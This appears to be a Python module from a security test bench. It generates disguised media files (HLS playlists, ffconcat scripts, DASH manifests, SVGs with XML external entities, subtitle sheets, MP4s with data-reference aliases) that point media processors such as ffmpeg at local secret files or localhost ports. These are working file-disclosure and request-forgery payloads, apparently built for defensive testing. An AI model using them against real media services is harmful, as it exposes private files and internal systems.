"""Files that name others: playlists, scripts, manifests, drawings, subtitles, under names that promise a film."""

from __future__ import annotations

import struct
from random import Random

from bench.hostile.samples import Target, sample

Made = tuple[str, bytes]
_NAMES = ("clip.mp4", "clip.mov", "clip.mkv", "music.mp3", "still.png", "clip.webm")


def playlist(random: Random, target: Target) -> Made:
    """HLS: its segments, its key or its first part lie elsewhere."""
    one, two = target.reference(random), target.reference(random)
    extra = random.choice(("", f'#EXT-X-KEY:METHOD=AES-128,URI="{two}"\n', f'#EXT-X-MAP:URI="{two}"\n'))
    body = f"#EXTM3U\n#EXT-X-TARGETDURATION:5\n{extra}#EXTINF:5,\n{one}\n#EXTINF:5,\n{two}\n#EXT-X-ENDLIST\n"
    return random.choice(_NAMES), random.choice((b"", b"\xef\xbb\xbf", b"\n  ")) + body.encode()


def hidden_playlist(random: Random, target: Target) -> Made:
    """A playlist behind the first bytes of something that we take."""
    head = random.choice(
        (
            b"ID3\x04\0\0\0\0\0\0",
            b"\0\0\0\x08free",
            b"\0\0\0\x08skip\0\0\0\x08wide",
            b"RIFF\xff\xff\xff\xffWAVE",
            b"\x1a\x45\xdf\xa3\x80",
            b"OggS",
            b"fLaC",
            b"\xff\xf1",
        )
    )
    name, body = playlist(random, target)
    return name, head + body


def concat_script(random: Random, target: Target) -> Made:
    """Ffmpeg's own list of files."""
    lines = [f"file '{target.reference(random)}'\nduration 2" for _ in range(3)]
    return random.choice(_NAMES), ("ffconcat version 1.0\n" + "\n".join(lines) + "\n").encode()


def manifest(random: Random, target: Target) -> Made:
    """DASH or Smooth Streaming."""
    where = target.reference(random)
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        f'mediaPresentationDuration="PT5S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1">'
        f"<BaseURL>{where}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )
    smooth = f'<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="{where}"/></SmoothStreamingMedia>'
    return random.choice(_NAMES), random.choice((dash, smooth, f"<MLT><producer><property>{where}")).encode()


def drawing(random: Random, target: Target) -> Made:
    """SVG that shows a picture, or an entity, of another file."""
    where = target.reference(random)
    plain = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="{where}"/></svg>'
    entity = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{where}">]><svg><text>&x;</text></svg>'
    return random.choice(("still.png", "still.jpg", "still.webp")), random.choice((plain, entity)).encode()


def subtitles(random: Random, target: Target) -> Made:
    """Subtitles and sheets that name files: ASS with fonts and pictures, VobSub, CUE, SAMI."""
    where = target.reference(random)
    texts = (
        f"[Script Info]\nVideo File: {where}\nAudio File: {where}\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,{where}",
        f"# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\nfile: {where}\n",
        f'FILE "{where}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        f"1\n00:00:00,000 --> 00:00:09,000\n<img src='{where}'>\n",
        f"WEBVTT\n\nSTYLE\n::cue {{ background: url({where}) }}\n",
    )
    return random.choice(_NAMES), random.choice(texts).encode()


def session(random: Random, target: Target) -> Made:
    """An SDP, an RTSP address, a desktop link: texts that some program follows."""
    texts = (
        f"v=0\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {target.port} RTP/AVP 96\na=rtpmap:96 H264/90000\n",
        f"[playlist]\nFile1={target.reference(random)}\nNumberOfEntries=1\n",
        f"[InternetShortcut]\nURL={target.reference(random)}\n",
        f"<html><video src='{target.reference(random)}'></html>",
        f"{target.reference(random)}\n",
    )
    return random.choice(_NAMES), random.choice(texts).encode()


def elsewhere_mp4(random: Random, target: Target) -> Made:
    """An mp4 whose samples lie in another file: its data reference names it."""
    secret = str(target.folder / "secret.ts").encode()
    link = random.choice((b"file://" + secret, secret, f"http://127.0.0.1:{target.port}/x".encode()))
    entry = struct.pack(">I4sI", 12 + len(link) + 1, b"url ", 0) + link + b"\0"
    if random.random() < 0.5:
        entry = _alias(secret)
    whole = sample("front.mp4")
    at = whole.index(b"dref") - 4
    old = int.from_bytes(whole[at : at + 4], "big")
    new = struct.pack(">I4sII", 16 + len(entry), b"dref", 0, 1) + entry
    return random.choice(("clip.mp4", "clip.mov")), replace_box(whole, at, old, new)


def _alias(path: bytes) -> bytes:
    """Return QuickTime's alias of an absolute path, as ffmpeg reads it: a volume, a name, and the path as a record."""
    name = path.rsplit(b"/", 1)[-1][:63]
    fixed = bytes(10) + bytes([4]) + b"root".ljust(27, b"\0") + bytes(12)
    fixed += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16) + struct.pack(">hh", 9, 9) + bytes(16)
    colons = b"root" + path.replace(b"/", b":")
    record = struct.pack(">hH", 2, len(colons)) + colons + bytes(len(colons) % 2) + struct.pack(">hH", -1, 0)
    return struct.pack(">I4sI", 12 + len(fixed) + len(record), b"alis", 0) + fixed + record


def replace_box(whole: bytes, at: int, old: int, new: bytes) -> bytes:
    """Replace a box, and lengthen the boxes that it lies in: found by walking down from the top."""
    grown = bytearray(whole)
    grown[at : at + old] = new
    start, end = 0, len(whole)
    while start < at:
        length = int.from_bytes(whole[start : start + 4], "big")
        if not start <= at < start + length:
            start += length
            continue
        end = start + length
        grown[start : start + 4] = (length + len(new) - old).to_bytes(4, "big")
        start += 8
    return bytes(grown) if end >= at else whole
